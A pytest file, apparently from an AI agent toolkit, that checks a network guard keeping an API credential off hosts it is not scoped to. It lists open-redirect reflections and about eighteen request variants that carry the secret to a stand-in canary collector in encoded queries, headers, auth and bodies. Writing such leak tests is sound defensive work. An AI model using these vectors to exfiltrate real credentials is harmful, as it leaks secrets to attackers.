"""The credential corpus: every way a credential's value tries to reach a host it is not for.

The credential ``vendor_a`` may go to 127.0.0.2 (the "allowed host") only. The canary on
127.0.0.1 stands for any other host: not one request may reach it. Each vector either makes
the allowed host reflect the value into a redirect (an open redirect on an allowed host), or
sends the value itself, in some spelling, as a task that copied it from a response would.
The oracle is what the canary saw, and what the allowed host saw for the controls.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator, Sequence
from http.server import BaseHTTPRequestHandler
from typing import Any
from urllib.parse import quote, quote_plus, unquote, urlsplit

import httpx
import pytest
from tool_servers import Server, open_redirect

from agentfleet.config import CredentialSpec, FetchSettings
from agentfleet.errors import ForbiddenDestination
from agentfleet.tools.fetch import http_fetch
from agentfleet.tools.guard import httpx_guard
from agentfleet.tools.ssrf import system_resolver
from agentfleet.tools.vault import CredentialVault

# Characters that every encoding spells differently: '/', '+', '=', a space.
SECRET = "sk/canary+9f3b2c1d=e4 a7"
PLACEHOLDER = "$CRED{vendor_a}"
SETTINGS = FetchSettings(allow_private_hosts=["127.0.0.1", "127.0.0.2"], timeout_s=5)


def _b64(data: str, *, urlsafe: bool = False) -> str:
    encode = base64.urlsafe_b64encode if urlsafe else base64.b64encode
    return encode(data.encode()).decode()


class Resolver:
    """The system resolver, plus one name for the canary; remembers every name asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def __call__(self, host: str, port: int) -> Sequence[str]:
        self.asked.append(host)
        if host.endswith("canary.test"):
            return ["127.0.0.1"]
        return system_resolver(host, port)


@pytest.fixture
def resolver() -> Resolver:
    return Resolver()


@pytest.fixture
def allowed(serve: Callable[[str], Server]) -> Server:
    server = serve("127.0.0.2")
    server.routes["/open"] = open_redirect
    return server


@pytest.fixture
def vault() -> CredentialVault:
    spec = CredentialSpec(env="VENDOR_A_KEY", domains=["127.0.0.2"])
    return CredentialVault({"vendor_a": spec}, environ={"VENDOR_A_KEY": SECRET})


@pytest.fixture
def client(vault: CredentialVault, resolver: Resolver) -> Iterator[httpx.Client]:
    transport = httpx_guard(settings=SETTINGS, vault=vault, resolver=resolver)
    with httpx.Client(transport=transport, trust_env=False, timeout=5) as guarded:
        yield guarded


# Where the allowed host's redirect puts the value ({v}); {p} is the canary's port.
REFLECTIONS = {
    "query": "http://127.0.0.1:{p}/collect?k={v}",
    "path": "http://127.0.0.1:{p}/collect/{v}",
    "fragment-and-query": "http://127.0.0.1:{p}/c?a=1&k={v}#top",
    "name-to-the-canary": "http://canary.test:{p}/?k={v}",
    "https-elsewhere": "https://127.0.0.1:{p}/?k={v}",
    "scheme-relative": "//127.0.0.1:{p}/?k={v}",
    "decimal-address": "http://2130706433:{p}/?k={v}",
}


def _reflecting_url(allowed: Server, canary: Server, where: str) -> str:
    # The task asks the allowed host for /open?next=<a URL holding the placeholder>; the
    # guard fills the placeholder in (percent-encoded) and the host decodes it into Location.
    target = REFLECTIONS[where].format(p=canary.port, v=PLACEHOLDER)
    return allowed.url("/open?next=" + quote(target, safe=""))


@pytest.mark.parametrize("where", sorted(REFLECTIONS))
def test_an_open_redirect_on_the_allowed_host_cannot_carry_the_value_away(
    where: str, allowed: Server, canary: Server, client: httpx.Client, resolver: Resolver
) -> None:
    url = _reflecting_url(allowed, canary, where)
    with pytest.raises(ForbiddenDestination) as caught:
        client.get(url, follow_redirects=True)
    with pytest.raises(ForbiddenDestination) as fetched:
        http_fetch(client, url, settings=SETTINGS)
    assert canary.hits == []
    assert len(allowed.hits) == 2, "the allowed host was asked, and answered with the redirect"
    for error in (caught.value, fetched.value):
        assert "vendor_a" in error.message
        assert SECRET not in str(error) and quote(SECRET, safe="") not in str(error)


def test_a_value_in_a_host_name_never_reaches_dns(
    allowed: Server, canary: Server, resolver: Resolver
) -> None:
    # A value that can be a DNS label, sent as a subdomain of a name the attacker's DNS
    # server answers for: asking DNS would already deliver it.
    label = "sk-canary-9f3b2c1d"
    spec = CredentialSpec(env="LABEL_KEY", domains=["127.0.0.2"])
    vault = CredentialVault({"label": spec}, environ={"LABEL_KEY": label})
    transport = httpx_guard(settings=SETTINGS, vault=vault, resolver=resolver)
    target = f"http://x$CRED{{label}}.canary.test:{canary.port}/"
    reflected = allowed.url("/open?next=" + quote(target, safe=""))
    with httpx.Client(transport=transport, trust_env=False) as guarded:
        with pytest.raises(ForbiddenDestination):
            guarded.get(f"http://{label}.canary.test:{canary.port}/")
        with pytest.raises(ForbiddenDestination):
            guarded.get(reflected, follow_redirects=True)
    assert canary.hits == []
    assert [name for name in resolver.asked if "canary" in name] == []


def test_a_redirect_back_to_the_allowed_host_keeps_the_value(allowed: Server, client: httpx.Client) -> None:
    allowed.routes["/collect"] = lambda handler: _ok(handler)
    url = allowed.url("/open?next=" + quote("/collect?k=" + PLACEHOLDER, safe=""))
    result = http_fetch(client, url, settings=SETTINGS)
    assert result.status == 200
    assert [urlsplit(hit.path).path for hit in allowed.hits] == ["/open", "/collect"]
    assert unquote(allowed.hits[1].path) == "/collect?k=" + SECRET


def _ok(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "2")
    handler.end_headers()
    handler.wfile.write(b"ok")


# A request that sends the value itself, as a task that copied it from a response would.
# Each is a function of the target URL returning the request's keyword arguments.
SENDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "query-plain": lambda url: {"url": url + "?k=" + SECRET},
    "query-percent-encoded": lambda url: {"url": url + "?k=" + quote(SECRET, safe="")},
    "query-lowercase-hex": lambda url: {"url": url + "?k=" + quote(SECRET, safe="").lower()},
    "query-form-encoded": lambda url: {"url": url + "?k=" + quote_plus(SECRET, safe="")},
    "query-encoded-twice": lambda url: {"url": url + "?k=" + quote(quote(SECRET, safe=""), safe="")},
    "path": lambda url: {"url": url + "x/" + quote(SECRET, safe="")},
    "header-value": lambda url: {"url": url, "headers": {"X-Key": SECRET}},
    "header-name": lambda url: {"url": url, "headers": {"X-" + quote(SECRET, safe=""): "1"}},
    "basic-auth": lambda url: {"url": url, "headers": {"Authorization": "Basic " + _b64("me:" + SECRET)}},
    "bearer-base64": lambda url: {"url": url, "headers": {"Authorization": "Bearer " + _b64(SECRET)}},
    "auth-urlsafe-base64": lambda url: {"url": url, "headers": {"Authorization": _b64(SECRET, urlsafe=True)}},
    "httpx-auth": lambda url: {"url": url, "auth": ("me", SECRET)},
    "userinfo": lambda url: {"url": url.replace("http://", "http://me:" + quote(SECRET, safe="") + "@")},
    "json-body": lambda url: {"url": url, "method": "POST", "json": {"note": SECRET}},
    "form-body": lambda url: {"url": url, "method": "POST", "data": {"note": SECRET}},
    "multipart-body": lambda url: {"url": url, "method": "POST", "files": {"f": ("a.txt", SECRET.encode())}},
    "base64-in-body": lambda url: {
        "url": url,
        "method": "POST",
        "content": json.dumps({"blob": _b64("prefix " + SECRET + " suffix")}).encode(),
    },
    "streamed-body": lambda url: {"url": url, "method": "PUT", "content": iter([b"a=", SECRET.encode()])},
}


def _send(client: httpx.Client, spec: dict[str, Any]) -> httpx.Response:
    spec = dict(spec)
    return client.request(spec.pop("method", "GET"), spec.pop("url"), **spec)


def test_the_corpus_is_large_enough() -> None:
    assert len(REFLECTIONS) >= 6 and len(SENDS) >= 15


@pytest.mark.parametrize("name", sorted(SENDS))
def test_the_value_itself_is_refused_for_another_host(
    name: str, canary: Server, client: httpx.Client, vault: CredentialVault
) -> None:
    with pytest.raises(ForbiddenDestination, match="carries the value of credential 'vendor_a'"):
        _send(client, SENDS[name](canary.url("/")))
    assert canary.hits == []


@pytest.mark.parametrize("name", sorted(SENDS))
def test_the_value_itself_goes_to_the_allowed_host(name: str, allowed: Server, client: httpx.Client) -> None:
    # The control: the same requests to the credential's own host are sent, so the refusals
    # above are about the destination and not about the request's shape.
    response = _send(client, SENDS[name](allowed.url("/")))
    assert response.status_code == 200
    assert len(allowed.hits) == 1


def test_a_short_value_in_basic_auth_is_still_found(canary: Server, resolver: Resolver) -> None:
    spec = CredentialSpec(env="PIN", domains=["127.0.0.2"])
    vault = CredentialVault({"pin": spec}, environ={"PIN": "4f9a2"})
    transport = httpx_guard(settings=SETTINGS, vault=vault, resolver=resolver)
    with httpx.Client(transport=transport, trust_env=False) as guarded, pytest.raises(ForbiddenDestination):
        guarded.get(canary.url("/"), auth=("me", "4f9a2"))
    assert canary.hits == []


def test_a_rotated_value_is_still_recognised(canary: Server, resolver: Resolver, allowed: Server) -> None:
    environ = {"VENDOR_A_KEY": SECRET}
    spec = CredentialSpec(env="VENDOR_A_KEY", domains=["127.0.0.2"])
    vault = CredentialVault({"vendor_a": spec}, environ=environ)
    transport = httpx_guard(settings=SETTINGS, vault=vault, resolver=resolver)
    with httpx.Client(transport=transport, trust_env=False) as guarded:
        guarded.get(allowed.url("/"), headers={"X-Key": PLACEHOLDER})
        environ["VENDOR_A_KEY"] = "sk/the-next-value-7c1e"
        with pytest.raises(ForbiddenDestination):
            guarded.get(canary.url("/"), headers={"X-Key": SECRET})
    assert canary.hits == []
